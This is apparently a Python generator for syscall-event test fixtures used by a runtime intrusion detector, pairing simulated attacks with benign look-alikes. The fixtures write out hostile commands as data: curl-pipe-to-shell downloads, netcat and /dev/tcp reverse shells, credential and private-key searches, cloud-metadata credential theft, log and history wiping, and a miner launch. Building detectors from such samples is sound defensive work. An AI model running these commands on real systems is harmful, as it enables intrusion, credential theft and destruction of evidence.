"""Writes the sensor documents of tests/data/syscall (run: python make_docs.py [OUT_DIR]).

Each behaviour gets an attack (NAME.json, sometimes NAME.VARIANT.json) and at least one
benign twin (NAME.benign_WHY.json) with the same event type; developer_workload.jsonl is
a batch of ordinary build, test, git and apt activity. Documents are exit events keyed
by Falco field names, shaped like the node sensor's (rendered flags in evt.arg, errno
names in evt.res, ancestor chains with the process first).
"""

from __future__ import annotations

import json
import shlex
import sys
from pathlib import Path
from typing import Any

OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent
T0 = 1795849200_000000000  # 2026-11-28T07:00:00Z
CID_WEB = "3f9c2a7d81be"
CID_API = "a41be09c7d23"
CID_JOB = "c7d1e2f3a4b5"

_seq = [0]


def ev(etype: str, **kw: Any) -> dict[str, Any]:
    """One exit event.

    Keywords: comm, argv, exepath, chain (the ancestors as (name, pid, cmdline), parent
    first), res, rawres, args (evt.arg), user (name, uid), loginuid, container, image,
    cwd, tty, age_s (seconds since the process started); any other keyword is a field
    of the document, and a dict under ``fields`` holds more of them.
    """
    comm: str = kw.pop("comm")
    argv: list[str] = kw.pop("argv")
    exepath: str = kw.pop("exepath")
    chain: list[tuple[str, int, str]] = kw.pop("chain")
    res: str = kw.pop("res", "SUCCESS")
    rawres: int = kw.pop("rawres", 0)
    args: dict[str, Any] = kw.pop("args", None) or {}
    user: tuple[str, int] = kw.pop("user", ("root", 0))
    loginuid: int = kw.pop("loginuid", -1)
    container: str = kw.pop("container", "host")
    image: str | None = kw.pop("image", None)
    cwd: str = kw.pop("cwd", "/")
    tty: int = kw.pop("tty", 0)
    age_s: float = kw.pop("age_s", 120.0)
    extra: dict[str, Any] = {**kw.pop("fields", {}), **kw}
    _seq[0] += 1
    now = T0 + _seq[0] * 1_000_003_117
    pid = 4000 + _seq[0] * 7
    names = [comm] + [c[0] for c in chain]
    pids = [pid] + [c[1] for c in chain]
    cmdline = " ".join([comm] + [shlex.quote(a) if " " in a else a for a in argv[1:]])
    doc: dict[str, Any] = {
        "evt.num": _seq[0] * 31,
        "evt.rawtime": now,
        "evt.type": etype,
        "evt.dir": "<",
        "evt.res": res,
        "evt.rawres": rawres,
        "evt.arg": dict(args),
        "proc.name": comm,
        "proc.exe": argv[0],
        "proc.exepath": exepath,
        "proc.args": argv[1:],
        "proc.cmdline": cmdline,
        "proc.pid": pid,
        "proc.vpid": pid,
        "proc.pid.ts": now - int(age_s * 1e9),
        "proc.cwd": cwd,
        "proc.tty": tty,
        "proc.aname": names,
        "proc.apid": pids,
        "proc.acmdline": [cmdline] + [c[2] for c in chain],
        "thread.tid": pid,
        "user.name": user[0],
        "user.uid": user[1],
        "user.loginuid": loginuid,
        "group.gid": user[1],
        "container.id": container,
        "evt.hostname": "node-7.prod.example.net",
    }
    if container != "host":
        doc["container.image.repository"] = image
        doc["container.name"] = {CID_WEB: "shop-web", CID_API: "orders-api", CID_JOB: "etl"}.get(
            container, "box"
        )
        doc["container.privileged"] = False
        doc["k8s.ns.name"] = "shop"
        doc["k8s.pod.name"] = doc["container.name"] + "-7d9f8c6b5-x2kqp"
    doc.update(extra)
    return doc


def opened(path: str, flags: str, fd: int = 3, raw: str | None = None, **kw: Any) -> dict[str, Any]:
    """openat fields for a successful open."""
    reads = "O_RDONLY" in flags or "O_RDWR" in flags
    writes = "O_WRONLY" in flags or "O_RDWR" in flags
    return dict(
        rawres=fd,
        args={"fd": fd, "dirfd": "AT_FDCWD", "name": raw or path, "flags": flags, "mode": "0644"},
        **{
            "fd.name": path,
            "fd.nameraw": raw or path,
            "fd.typechar": "f",
            "fd.type": "file",
            "fd.num": fd,
            "evt.is_open_read": reads,
            "evt.is_open_write": writes,
            "evt.is_open_create": "O_CREAT" in flags,
        },
        **kw,
    )


def connected(
    sip: str, sport: int, cport: int = 48122, cip: str = "10.0.3.17", v6: bool = False, **kw: Any
) -> dict[str, Any]:
    name = f"{cip}:{cport}->{sip}:{sport}"
    return dict(
        rawres=0,
        args={"fd": 3, "addr": f"{sip}:{sport}", "tuple": name},
        **{
            "fd.num": 3,
            "fd.typechar": "6" if v6 else "4",
            "fd.type": "ipv6" if v6 else "ipv4",
            "fd.name": name,
            "fd.l4proto": "tcp",
            "fd.sockfamily": "ip",
            "fd.cip": cip,
            "fd.cport": cport,
            "fd.sip": sip,
            "fd.sport": sport,
            "fd.lip": cip,
            "fd.lport": cport,
            "fd.rip": sip,
            "fd.rport": sport,
            "fd.connected": True,
            "fd.is_server": False,
        },
        **kw,
    )


SSH_LOGIN = [
    ("bash", 2101, "-bash"),
    ("sshd", 2100, "sshd: alice@pts/0"),
    ("sshd", 812, "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
    ("systemd", 1, "/sbin/init"),
]
ROOT_SSH = [("bash", 2151, "-bash"), ("sudo", 2150, "sudo -i"), *SSH_LOGIN]
DEV = [("bash", 3301, "bash"), ("tmux: server", 3300, "tmux"), ("systemd", 1, "/sbin/init")]
CONTAINER_INIT = [("containerd-shim", 9310, "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io")]
WEB_USER = ("www-data", 33)
DEVU = ("dev", 1000)

docs: dict[str, dict[str, Any]] = {}

# --- sensitive file reads ---------------------------------------------------------------------
docs["read_shadow.json"] = ev(
    "openat",
    comm="cat",
    argv=["cat", "/etc/shadow"],
    exepath="/usr/bin/cat",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    cwd="/root",
    **opened("/etc/shadow", "O_RDONLY|O_CLOEXEC"),
)
docs["read_shadow.benign_unix_chkpwd.json"] = ev(
    "openat",
    comm="unix_chkpwd",
    argv=["/sbin/unix_chkpwd", "alice", "nullok"],
    exepath="/usr/sbin/unix_chkpwd",
    chain=[("sudo", 2150, "sudo -i"), *SSH_LOGIN[:]],
    user=DEVU,
    loginuid=1001,
    **opened("/etc/shadow", "O_RDONLY|O_CLOEXEC"),
)
docs["service_reads_shadow.json"] = ev(
    "openat",
    comm="nginx",
    argv=["nginx: worker process"],
    exepath="/usr/sbin/nginx",
    chain=[
        ("nginx", 611, "nginx: master process /usr/sbin/nginx -g daemon off;"),
        ("systemd", 1, "/sbin/init"),
    ],
    age_s=86400.0,
    **opened("/etc/shadow", "O_RDONLY|O_CLOEXEC", fd=14),
)
docs["service_reads_shadow.benign_startup.json"] = ev(
    "openat",
    comm="httpd",
    argv=["/usr/sbin/httpd", "-DFOREGROUND"],
    exepath="/usr/sbin/httpd",
    chain=[("systemd", 1, "/sbin/init")],
    age_s=1.2,
    **opened("/etc/shadow", "O_RDONLY|O_CLOEXEC", fd=9),
)
docs["service_reads_shadow.benign_pam_login.json"] = ev(
    "openat",
    comm="smbd",
    argv=["smbd: client [10.0.7.44]"],
    exepath="/usr/sbin/smbd",
    chain=[
        ("smbd", 980, "/usr/sbin/smbd --foreground --no-process-group"),
        ("systemd", 1, "/sbin/init"),
    ],
    age_s=7200.0,
    **opened("/etc/pam.d/samba", "O_RDONLY|O_CLOEXEC", fd=31),
)
docs["path_traversal.json"] = ev(
    "openat",
    comm="php-fpm8.2",
    argv=["php-fpm: pool www"],
    exepath="/usr/sbin/php-fpm8.2",
    chain=[
        ("php-fpm8.2", 702, "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=WEB_USER,
    cwd="/var/www/html",
    container=CID_WEB,
    image="registry.example.net/shop/web",
    **opened("/etc/passwd", "O_RDONLY", fd=11, raw="/var/www/html/uploads/../../../../etc/passwd"),
)
docs["path_traversal.benign_relative_include.json"] = ev(
    "openat",
    comm="php-fpm8.2",
    argv=["php-fpm: pool www"],
    exepath="/usr/sbin/php-fpm8.2",
    chain=[
        ("php-fpm8.2", 702, "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=WEB_USER,
    cwd="/var/www/html",
    container=CID_WEB,
    image="registry.example.net/shop/web",
    **opened(
        "/var/www/vendor/autoload.php",
        "O_RDONLY",
        fd=11,
        raw="/var/www/html/app/../../vendor/autoload.php",
    ),
)
docs["search_private_keys.json"] = ev(
    "execve",
    comm="grep",
    argv=["grep", "-rl", "BEGIN OPENSSH PRIVATE KEY", "/home", "/root"],
    exepath="/usr/bin/grep",
    chain=[
        ("sh", 5101, "sh -c grep -rl ..."),
        ("python3", 5100, "python3 /tmp/.x/agent.py"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=WEB_USER,
    args={"filename": "/usr/bin/grep"},
)
docs["search_private_keys.find.json"] = ev(
    "execve",
    comm="find",
    argv=["find", "/", "-name", "id_rsa*", "-type", "f"],
    exepath="/usr/bin/find",
    chain=SSH_LOGIN,
    user=DEVU,
    loginuid=1001,
    tty=34816,
    args={"filename": "/usr/bin/find"},
)
docs["search_private_keys.benign_grep_code.json"] = ev(
    "execve",
    comm="grep",
    argv=["grep", "-rn", "private_key_path", "config/"],
    exepath="/usr/bin/grep",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev/src/shop",
    tty=34817,
    args={"filename": "/usr/bin/grep"},
)
docs["search_aws_credentials.json"] = ev(
    "execve",
    comm="grep",
    argv=["grep", "-ri", "aws_secret_access_key", "/home", "/root", "/var/www"],
    exepath="/usr/bin/grep",
    chain=[("sh", 6201, "sh -c ..."), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    args={"filename": "/usr/bin/grep"},
)
docs["search_aws_credentials.find.json"] = ev(
    "execve",
    comm="find",
    argv=["find", "/home", "-path", "*/.aws/credentials"],
    exepath="/usr/bin/find",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    args={"filename": "/usr/bin/find"},
)
docs["search_aws_credentials.benign_region.json"] = ev(
    "execve",
    comm="grep",
    argv=["grep", "-rn", "AWS_REGION", "deploy/"],
    exepath="/usr/bin/grep",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev/src/shop",
    tty=34817,
    args={"filename": "/usr/bin/grep"},
)
docs["symlink_shadow.json"] = ev(
    "symlinkat",
    comm="ln",
    argv=["ln", "-s", "/etc/shadow", "/var/www/html/static/s.txt"],
    exepath="/usr/bin/ln",
    chain=[("sh", 6301, "sh -c ln -s ..."), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    args={
        "target": "/etc/shadow",
        "linkdirfd": "AT_FDCWD",
        "linkpath": "/var/www/html/static/s.txt",
    },
)
docs["symlink_shadow.benign_python.json"] = ev(
    "symlinkat",
    comm="ln",
    argv=["ln", "-sf", "/usr/bin/python3", "/usr/local/bin/python"],
    exepath="/usr/bin/ln",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    args={
        "target": "/usr/bin/python3",
        "linkdirfd": "AT_FDCWD",
        "linkpath": "/usr/local/bin/python",
    },
)
docs["hardlink_shadow.json"] = ev(
    "linkat",
    comm="ln",
    argv=["ln", "/etc/shadow", "/tmp/.cache-s"],
    exepath="/usr/bin/ln",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    args={
        "olddir": "AT_FDCWD",
        "oldpath": "/etc/shadow",
        "newdir": "AT_FDCWD",
        "newpath": "/tmp/.cache-s",
        "flags": 0,
    },
    **{"fs.path.source": "/etc/shadow", "fs.path.target": "/tmp/.cache-s"},
)
docs["hardlink_shadow.benign_build.json"] = ev(
    "linkat",
    comm="ln",
    argv=["ln", "build/shop", "dist/shop"],
    exepath="/usr/bin/ln",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev/src/shop",
    args={
        "olddir": "AT_FDCWD",
        "oldpath": "build/shop",
        "newdir": "AT_FDCWD",
        "newpath": "dist/shop",
        "flags": 0,
    },
    **{
        "fs.path.source": "/home/dev/src/shop/build/shop",
        "fs.path.target": "/home/dev/src/shop/dist/shop",
    },
)
docs["cloud_metadata.json"] = ev(
    "connect",
    comm="curl",
    argv=["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
    exepath="/usr/bin/curl",
    chain=[("sh", 6401, "sh -c curl ..."), *CONTAINER_INIT],
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    user=("app", 10001),
    **connected("169.254.169.254", 80, cip="10.42.1.23"),
)
docs["cloud_metadata.benign_host_agent.json"] = ev(
    "connect",
    comm="amazon-ssm-agen",
    argv=["/usr/bin/amazon-ssm-agent"],
    exepath="/usr/bin/amazon-ssm-agent",
    chain=[("systemd", 1, "/sbin/init")],
    **connected("169.254.169.254", 80, cip="10.0.3.17"),
)

# --- execution --------------------------------------------------------------------------------
docs["shell_from_service.json"] = ev(
    "execve",
    comm="sh",
    argv=["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"],
    exepath="/usr/bin/dash",
    chain=[
        ("php-fpm8.2", 733, "php-fpm: pool www"),
        ("php-fpm8.2", 702, "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=WEB_USER,
    cwd="/var/www/html",
    args={"filename": "/bin/sh"},
)
docs["shell_from_service.benign_wal_archive.json"] = ev(
    "execve",
    comm="sh",
    argv=["sh", "-c", "envdir /etc/wal-g.d/env wal-g wal-push pg_wal/000000010000000A00000042"],
    exepath="/usr/bin/dash",
    chain=[
        ("postgres", 1302, "postgres: archiver"),
        ("postgres", 1290, "/usr/lib/postgresql/16/bin/postgres"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=("postgres", 114),
    cwd="/var/lib/postgresql/16/main",
    args={"filename": "/bin/sh"},
)
docs["shell_from_service.postgres_copy_program.json"] = ev(
    "execve",
    comm="sh",
    argv=["sh", "-c", "id > /tmp/.p; curl -s http://203.0.113.50/p | sh"],
    exepath="/usr/bin/dash",
    chain=[
        ("postgres", 1410, "postgres: 16/main: app shop 10.0.7.21(51544) COPY"),
        ("postgres", 1290, "/usr/lib/postgresql/16/bin/postgres"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=("postgres", 114),
    cwd="/var/lib/postgresql/16/main",
    args={"filename": "/bin/sh"},
)
docs["service_account_interactive.benign_sshd_auth.json"] = ev(
    "execve",
    comm="sshd-auth",
    argv=["/usr/lib/openssh/sshd-auth", "-R"],
    exepath="/usr/lib/openssh/sshd-auth",
    chain=[
        ("sshd-session", 7710, "sshd-session: [accepted]"),
        ("sshd", 812, "sshd: /usr/sbin/sshd -D [listener] 1 of 10-100 startups"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=("sshd", 105),
    args={"filename": "/usr/lib/openssh/sshd-auth"},
)
docs["terminal_shell_container.json"] = ev(
    "execve",
    comm="bash",
    argv=["bash"],
    exepath="/usr/bin/bash",
    chain=CONTAINER_INIT,
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    tty=34823,
    args={"filename": "/bin/bash"},
)
docs["terminal_shell_container.benign_no_tty.json"] = ev(
    "execve",
    comm="sh",
    argv=["sh", "-c", "cat /tmp/ready"],
    exepath="/usr/bin/dash",
    chain=CONTAINER_INIT,
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    args={"filename": "/bin/sh"},
)
docs["service_account_interactive.json"] = ev(
    "execve",
    comm="id",
    argv=["id"],
    exepath="/usr/bin/id",
    chain=[
        ("bash", 7701, "-bash"),
        ("sshd", 7700, "sshd: www-data@pts/3"),
        ("sshd", 812, "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=WEB_USER,
    loginuid=33,
    tty=34819,
    args={"filename": "/usr/bin/id"},
)
docs["service_account_interactive.benign_person.json"] = ev(
    "execve",
    comm="id",
    argv=["id"],
    exepath="/usr/bin/id",
    chain=SSH_LOGIN,
    user=("alice", 1001),
    loginuid=1001,
    tty=34816,
    args={"filename": "/usr/bin/id"},
)
docs["netcat_exec.json"] = ev(
    "execve",
    comm="nc",
    argv=["nc", "-e", "/bin/sh", "203.0.113.50", "4444"],
    exepath="/usr/bin/nc.traditional",
    chain=[("sh", 6501, "sh -c nc ..."), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    args={"filename": "/usr/bin/nc"},
)
docs["netcat_exec.benign_port_check.json"] = ev(
    "execve",
    comm="nc",
    argv=["nc", "-zv", "orders-db", "5432"],
    exepath="/usr/bin/nc.openbsd",
    chain=[("sh", 6502, "sh -c nc -zv orders-db 5432"), *CONTAINER_INIT],
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    user=("app", 10001),
    args={"filename": "/usr/bin/nc"},
)
docs["dev_tcp_reverse_shell.json"] = ev(
    "execve",
    comm="bash",
    argv=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/443 0>&1"],
    exepath="/usr/bin/bash",
    chain=[
        ("sh", 6601, "sh -c bash -c ..."),
        ("node", 900, "node /srv/app/server.js"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=("node", 1000),
    args={"filename": "/bin/bash"},
)
docs["dev_tcp_reverse_shell.benign_devnull.json"] = ev(
    "execve",
    comm="bash",
    argv=["bash", "-c", "make test > /dev/null 2>&1"],
    exepath="/usr/bin/bash",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev/src/shop",
    args={"filename": "/bin/bash"},
)
docs["dev_tcp_reverse_shell.benign_readiness_probe.json"] = ev(
    "execve",
    comm="bash",
    argv=["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8080"],
    exepath="/usr/bin/bash",
    chain=[("runc", 9402, "runc --root /run/containerd/runc/k8s.io exec"), *CONTAINER_INIT],
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    user=("app", 10001),
    args={"filename": "/bin/bash"},
    **{"proc.is_container_readiness_probe": True},
)
docs["stdio_to_socket.json"] = ev(
    "dup2",
    comm="bash",
    argv=["bash", "-i"],
    exepath="/usr/bin/bash",
    chain=[("sh", 6701, "sh -c bash -i >& /dev/tcp/203.0.113.50/443 0>&1"), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    rawres=0,
    args={"fd": 3, "newfd": 0, "flags": 0},
    **{
        "fd.num": 3,
        "fd.type": "ipv4",
        "fd.typechar": "4",
        "fd.name": "10.42.1.9:51344->203.0.113.50:443",
        "fd.l4proto": "tcp",
        "fd.cip": "10.42.1.9",
        "fd.cport": 51344,
        "fd.sip": "203.0.113.50",
        "fd.sport": 443,
        "fd.lip": "10.42.1.9",
        "fd.lport": 51344,
        "fd.rip": "203.0.113.50",
        "fd.rport": 443,
    },
)
docs["stdio_to_socket.benign_pipe.json"] = ev(
    "dup2",
    comm="bash",
    argv=["bash", "-c", "make 2>&1 | tee build.log"],
    exepath="/usr/bin/bash",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev/src/shop",
    rawres=1,
    args={"fd": 4, "newfd": 1, "flags": 0},
    **{"fd.num": 4, "fd.type": "pipe", "fd.typechar": "p", "fd.name": "pipe:[88172]"},
)
docs["exec_dev_shm.json"] = ev(
    "execve",
    comm="kworker",
    argv=["/dev/shm/.k/kworker", "-o", "pool.example.org:3333"],
    exepath="/dev/shm/.k/kworker",
    chain=[("sh", 6801, "sh -c ..."), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    cwd="/dev/shm/.k",
    args={"filename": "/dev/shm/.k/kworker"},
)
docs["exec_dev_shm.benign_python_cwd.json"] = ev(
    "execve",
    comm="python3",
    argv=["python3", "-m", "pytest", "-q"],
    exepath="/usr/bin/python3.11",
    chain=DEV,
    user=DEVU,
    cwd="/dev/shm/ci-run-41",
    args={"filename": "/usr/bin/python3"},
)
docs["memfd_exec.json"] = ev(
    "execve",
    comm="3",
    argv=["[kworker/0:2]"],
    exepath="memfd: (deleted)",
    chain=[
        ("python3", 6901, "python3 -c import os;..."),
        ("sh", 6900, "sh -c python3 -c ..."),
        *CONTAINER_INIT,
    ],
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    user=("app", 10001),
    args={"filename": "/proc/self/fd/3"},
    **{"proc.is_exe_from_memfd": True},
)
docs["memfd_exec.benign_runc.json"] = ev(
    "execve",
    comm="runc:[1:CHILD]",
    argv=["runc", "init"],
    exepath="memfd:runc_cloned:/proc/self/exe",
    chain=[
        ("runc:[0:PARENT]", 9300, "runc init"),
        ("runc", 9290, "runc --root /run/containerd/runc/k8s.io create"),
        ("containerd-shim", 9280, "/usr/bin/containerd-shim-runc-v2"),
        ("systemd", 1, "/sbin/init"),
    ],
    args={"filename": "/proc/self/exe"},
    **{
        "proc.is_exe_from_memfd": True,
        # The kernel's executable paths: what tells runc's copy from a look-alike.
        "proc.aexepath": [
            "memfd:runc_cloned:/proc/self/exe",
            "memfd:runc_cloned:/proc/self/exe",
            "memfd:runc_cloned:/proc/self/exe",
            "/usr/bin/containerd-shim-runc-v2",
            "/usr/lib/systemd/systemd",
        ],
    },
)
docs["drop_and_execute.json"] = ev(
    "execve",
    comm="xmrig",
    argv=["/tmp/xmrig", "--donate-level", "0"],
    exepath="/tmp/xmrig",
    chain=[("sh", 7001, "sh -c curl -so /tmp/xmrig ... && /tmp/xmrig"), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    cwd="/tmp",
    args={"filename": "/tmp/xmrig"},
    **{"proc.is_exe_upper_layer": True, "proc.is_exe_lower_layer": False},
)
docs["drop_and_execute.benign_image_binary.json"] = ev(
    "execve",
    comm="python3",
    argv=["python3", "/srv/app/manage.py", "migrate"],
    exepath="/usr/bin/python3.11",
    chain=[("sh", 7002, "sh -c python3 /srv/app/manage.py migrate"), *CONTAINER_INIT],
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    user=("app", 10001),
    cwd="/srv/app",
    args={"filename": "/usr/bin/python3"},
    **{"proc.is_exe_upper_layer": False, "proc.is_exe_lower_layer": True},
)
docs["ssh_non_standard_port.json"] = ev(
    "connect",
    comm="ssh",
    argv=["ssh", "-p", "443", "-R", "9000:localhost:22", "tunnel@198.51.100.23"],
    exepath="/usr/bin/ssh",
    chain=[
        ("sh", 7101, "sh -c ssh ..."),
        ("cron", 640, "/usr/sbin/cron -f"),
        ("systemd", 1, "/sbin/init"),
    ],
    **connected("198.51.100.23", 443, cport=50212),
)
docs["ssh_non_standard_port.benign_git.json"] = ev(
    "connect",
    comm="ssh",
    argv=["ssh", "git@github.com", "git-upload-pack 'acme/shop.git'"],
    exepath="/usr/bin/ssh",
    chain=[("git", 3410, "git fetch origin"), ("bash", 3301, "bash"), ("systemd", 1, "/sbin/init")],
    user=DEVU,
    cwd="/home/dev/src/shop",
    **connected("140.82.112.3", 22, cport=50330),
)
docs["k8s_api_from_container.json"] = ev(
    "connect",
    comm="curl",
    argv=[
        "curl",
        "-sk",
        "-H",
        "Authorization: Bearer eyJhbGci...",
        "https://kubernetes.default.svc/api/v1/secrets",
    ],
    exepath="/usr/bin/curl",
    chain=[("sh", 7201, "sh -c curl ..."), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    **connected("10.96.0.1", 443, cip="10.42.1.9", cport=40102),
    **{"fd.sip.name": "kubernetes.default.svc.cluster.local"},
)
docs["k8s_api_from_container.benign_dns.json"] = ev(
    "connect",
    comm="python3",
    argv=["python3", "-m", "gunicorn", "app:wsgi"],
    exepath="/usr/bin/python3.11",
    chain=CONTAINER_INIT,
    container=CID_API,
    image="registry.example.net/shop/orders-api",
    user=("app", 10001),
    **connected("10.96.0.10", 53, cip="10.42.1.23", cport=40220),
)

# --- defense evasion / impact -----------------------------------------------------------------
docs["log_truncated.json"] = ev(
    "openat",
    comm="bash",
    argv=["bash"],
    exepath="/usr/bin/bash",
    chain=ROOT_SSH[1:],
    loginuid=1001,
    tty=34816,
    cwd="/root",
    **opened("/var/log/auth.log", "O_TRUNC|O_CREAT|O_WRONLY", fd=3),
)
docs["log_truncated.benign_tmp_log.json"] = ev(
    "openat",
    comm="bash",
    argv=["bash"],
    exepath="/usr/bin/bash",
    chain=DEV[1:],
    user=DEVU,
    cwd="/home/dev/src/shop",
    **opened("/tmp/shop-build.log", "O_TRUNC|O_CREAT|O_WRONLY", fd=3),
)
docs["history_deleted.json"] = ev(
    "unlinkat",
    comm="rm",
    argv=["rm", "-f", "/root/.bash_history"],
    exepath="/usr/bin/rm",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    cwd="/root",
    args={"dirfd": "AT_FDCWD", "name": "/root/.bash_history", "flags": 0},
    **{"fs.path.name": "/root/.bash_history"},
)
docs["history_deleted.benign_profile_backup.json"] = ev(
    "unlinkat",
    comm="rm",
    argv=["rm", "-f", "/home/dev/.bash_profile.bak"],
    exepath="/usr/bin/rm",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev",
    args={"dirfd": "AT_FDCWD", "name": "/home/dev/.bash_profile.bak", "flags": 0},
    **{"fs.path.name": "/home/dev/.bash_profile.bak"},
)
docs["history_deleted.devnull_link.json"] = ev(
    "symlinkat",
    comm="ln",
    argv=["ln", "-sf", "/dev/null", "/root/.bash_history"],
    exepath="/usr/bin/ln",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    cwd="/root",
    args={"target": "/dev/null", "linkdirfd": "AT_FDCWD", "linkpath": "/root/.bash_history"},
)
docs["wipe_tool.json"] = ev(
    "execve",
    comm="shred",
    argv=["shred", "-fuz", "-n", "3", "/var/log/auth.log", "/root/.bash_history"],
    exepath="/usr/bin/shred",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    args={"filename": "/usr/bin/shred"},
)
docs["wipe_tool.benign_rm_build.json"] = ev(
    "execve",
    comm="rm",
    argv=["rm", "-rf", "build/"],
    exepath="/usr/bin/rm",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev/src/shop",
    args={"filename": "/usr/bin/rm"},
)
docs["ptrace_attach.json"] = ev(
    "ptrace",
    comm="python3",
    argv=["python3", "/tmp/.x/inject.py", "812"],
    exepath="/usr/bin/python3.11",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    args={"request": "PTRACE_ATTACH", "pid": 812, "addr": "0", "data": "0"},
)
docs["ptrace_attach.benign_getregs.json"] = ev(
    "ptrace",
    comm="gdb",
    argv=["gdb", "-q", "./shop-tests"],
    exepath="/usr/bin/gdb",
    chain=DEV,
    user=DEVU,
    args={"request": "PTRACE_GETREGS", "pid": 3380, "addr": "0", "data": "0"},
)
docs["ptrace_traceme.json"] = ev(
    "ptrace",
    comm="kdevtmpfsi",
    argv=["/tmp/kdevtmpfsi"],
    exepath="/tmp/kdevtmpfsi",
    chain=[("sh", 7301, "sh -c /tmp/kdevtmpfsi"), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    args={"request": "PTRACE_TRACEME", "pid": 0, "addr": "0", "data": "0"},
)
docs["ptrace_traceme.benign_gdb_child.json"] = ev(
    "ptrace",
    comm="gdb",
    argv=["gdb", "./shop-tests"],
    exepath="/usr/bin/gdb",
    chain=[("gdb", 3390, "gdb ./shop-tests"), *DEV],
    user=DEVU,
    cwd="/home/dev/src/shop",
    args={"request": "PTRACE_TRACEME", "pid": 0, "addr": "0", "data": "0"},
)

# --- privilege escalation / persistence -------------------------------------------------------
docs["sudoers_written.json"] = ev(
    "openat",
    comm="bash",
    argv=["bash"],
    exepath="/usr/bin/bash",
    chain=ROOT_SSH[1:],
    loginuid=1001,
    tty=34816,
    cwd="/root",
    **opened("/etc/sudoers.d/90-svc", "O_APPEND|O_CREAT|O_WRONLY", fd=3),
)
docs["sudoers_written.benign_visudo.json"] = ev(
    "openat",
    comm="visudo",
    argv=["visudo", "-f", "/etc/sudoers.d/deploy"],
    exepath="/usr/sbin/visudo",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    **opened("/etc/sudoers.d/deploy", "O_CREAT|O_RDWR", fd=4),
)
docs["setuid_bit.json"] = ev(
    "fchmodat",
    comm="chmod",
    argv=["chmod", "u+s", "/tmp/.sh"],
    exepath="/usr/bin/chmod",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    args={
        "dirfd": "AT_FDCWD",
        "filename": "/tmp/.sh",
        "mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
    },
    **{"fs.path.name": "/tmp/.sh"},
)
docs["setuid_bit.benign_dpkg.json"] = ev(
    "fchmodat",
    comm="dpkg",
    argv=[
        "/usr/bin/dpkg",
        "--status-fd",
        "35",
        "--unpack",
        "--auto-deconfigure",
        "/var/cache/apt/archives/sudo_1.9.13p3-1+deb12u1_amd64.deb",
    ],
    exepath="/usr/bin/dpkg",
    chain=[
        ("apt-get", 8100, "apt-get install -y sudo"),
        ("sudo", 8099, "sudo apt-get install -y sudo"),
        *DEV,
    ],
    user=("root", 0),
    loginuid=1000,
    args={
        "dirfd": "AT_FDCWD",
        "filename": "/usr/bin/sudo.dpkg-new",
        "mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
    },
    **{"fs.path.name": "/usr/bin/sudo.dpkg-new"},
)
docs["sudoedit_overflow.json"] = ev(
    "execve",
    comm="sudoedit",
    argv=["sudoedit", "-s", "\\", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"],
    exepath="/usr/bin/sudo",
    chain=SSH_LOGIN,
    user=("alice", 1001),
    loginuid=1001,
    tty=34816,
    args={"filename": "/usr/bin/sudoedit"},
)
docs["sudoedit_overflow.benign_edit.json"] = ev(
    "execve",
    comm="sudoedit",
    argv=["sudoedit", "/etc/hosts"],
    exepath="/usr/bin/sudo",
